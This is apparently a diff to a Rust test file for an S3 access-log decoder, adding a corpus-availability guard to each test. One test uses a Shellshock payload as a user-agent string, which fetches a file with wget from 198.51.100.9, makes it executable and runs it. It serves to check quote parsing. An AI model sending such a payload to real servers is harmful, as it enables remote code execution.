@@ -17,6 +17,7 @@ fn one_row(line: &str) -> serde_json::Map<String, Value> {
 
 #[test]
 fn dash_is_null_in_every_field() {
+    need_corpora!();
     let logstash = std::fs::read_to_string(
         corpora().join("access-logs/logstash-patterns-core/aws_spec_S3_ACCESS_LOG_messages.log"),
     )
@@ -33,6 +34,7 @@ fn dash_is_null_in_every_field() {
 /// no operation); the fields after them still line up.
 #[test]
 fn dash_request_id_and_operation() {
+    need_corpora!();
     let line = doc_line();
     let fields: Vec<&str> = line.split(' ').collect();
     // owner bucket [time offset] ip requester id operation …
@@ -53,6 +55,7 @@ fn dash_request_id_and_operation() {
 
 #[test]
 fn request_uri_quoted_quoted_dash_and_bare_dash() {
+    need_corpora!();
     let line = doc_line();
     assert_eq!(
         one_row(&line)["request_uri"],
@@ -67,6 +70,7 @@ fn request_uri_quoted_quoted_dash_and_bare_dash() {
 
 #[test]
 fn referer_and_user_agent_quoted_quoted_dash_and_bare_dash() {
+    need_corpora!();
     let line = doc_line();
     for (fields, referrer, agent) in [
         (
@@ -96,6 +100,7 @@ fn referer_and_user_agent_quoted_quoted_dash_and_bare_dash() {
 
 #[test]
 fn unescaped_quotes_inside_user_agent_and_referer() {
+    need_corpora!();
     let line = doc_line();
     let shellshock =
         r#"() { :;}; /bin/bash -c "wget http://198.51.100.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x""#;
@@ -116,6 +121,7 @@ fn unescaped_quotes_inside_user_agent_and_referer() {
 
 #[test]
 fn spaces_in_referer_and_requester() {
+    need_corpora!();
     let line = doc_line();
     let r = one_row(&line.replace(
         r#""-" "S3Console"#,
@@ -140,6 +146,7 @@ fn spaces_in_referer_and_requester() {
 
 #[test]
 fn records_of_17_to_27_fields_and_beyond() {
+    need_corpora!();
     let line = doc_line(); // 26 fields
     let fields: Vec<&str> = line.split(' ').collect();
     // The doc line's 26 fields are 30 space-separated tokens (time, request URI).
@@ -175,6 +182,7 @@ fn records_of_17_to_27_fields_and_beyond() {
 
 #[test]
 fn strict_refuses_unknown_trailing_fields() {
+    need_corpora!();
     let line = format!("{} us-east-1 Unknown", doc_line());
     let options = DecoderOptions {
         strict: true,
@@ -188,6 +196,7 @@ fn strict_refuses_unknown_trailing_fields() {
 
 #[test]
 fn time_offset_is_honoured() {
+    need_corpora!();
     let beats =
         std::fs::read_to_string(corpora().join("access-logs/elastic-beats/test.log")).unwrap();
     let r = one_row(beats.lines().nth(5).unwrap());
@@ -203,6 +212,7 @@ fn time_offset_is_honoured() {
 
 #[test]
 fn invalid_utf8_is_replaced_not_fatal() {
+    need_corpora!();
     let mut raw = doc_line()
         .replace("S3Console/0.4", "S3Console/\u{1}")
         .into_bytes();
@@ -217,6 +227,7 @@ fn invalid_utf8_is_replaced_not_fatal() {
 
 #[test]
 fn crlf_line_ends_and_blank_lines_are_tolerated() {
+    need_corpora!();
     let line = doc_line();
     let input = format!("\r\n{line}\r\n\r\n   \n{line}\r\n");
     let (batches, report) = decode_bytes("t", input.as_bytes());
@@ -236,6 +247,7 @@ fn crlf_line_ends_and_blank_lines_are_tolerated() {
 
 #[test]
 fn long_lines() {
+    need_corpora!();
     let agent = format!("Mozilla/5.0 {}", "(KHTML, like Gecko) ".repeat(200));
     let r = one_row(&doc_line().replace("S3Console/0.4", &agent));
     assert!(agent.len() > 4000);
@@ -244,6 +256,7 @@ fn long_lines() {
 
 #[test]
 fn bad_lines_are_quarantined_with_object_line_and_offset() {
+    need_corpora!();
     let line = doc_line();
     let truncated = &line[..line.find(" - 113 -").unwrap()];
     let glued = format!("{line}{line}");
@@ -279,6 +292,7 @@ fn bad_lines_are_quarantined_with_object_line_and_offset() {
 
 #[test]
 fn plain_gzip_and_multi_member_gzip_give_identical_rows() {
+    need_corpora!();
     let mut content = String::new();
     for file in [
         "elastic-beats/test.log",
@@ -314,6 +328,7 @@ fn plain_gzip_and_multi_member_gzip_give_identical_rows() {
 
 #[test]
 fn a_truncated_gzip_object_keeps_its_good_lines_and_says_where_it_broke() {
+    need_corpora!();
     let line = doc_line();
     let content: String = (0..2000)
         .map(|i| line.replace("3E57427F3EXAMPLE", &format!("{i:016}")) + "\n")
@@ -347,6 +362,7 @@ fn binary_objects_are_one_reject_and_other_text_is_rejected_line_by_line() {
 /// scans run at the time (see `scan::tests` for a window forced into pieces).
 #[test]
 fn large_objects_keep_line_numbers_and_order() {
+    need_corpora!();
     let line = doc_line();
     let mut content = String::new();
     for i in 0..30_000 {
